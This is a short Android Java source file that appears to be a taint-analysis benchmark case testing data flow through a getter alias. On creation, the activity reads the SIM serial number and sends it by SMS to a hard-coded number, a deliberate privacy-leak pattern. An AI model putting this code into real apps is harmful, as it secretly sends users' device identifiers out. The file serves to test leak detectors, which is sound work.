package cn.privlens.suite.alias_returned_from_getter;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;

public class Main extends Activity {
    static class Basket {
        private final List<String> items = new ArrayList<>();
        List<String> items() { return items; }
        void add(String item) { items.add(item); }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Basket basket = new Basket();
        List<String> seen = basket.items();
        basket.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
        for (String item : seen) {
            SmsManager.getDefault().sendTextMessage("10690000", null, item, null, null);
        }
    }
}
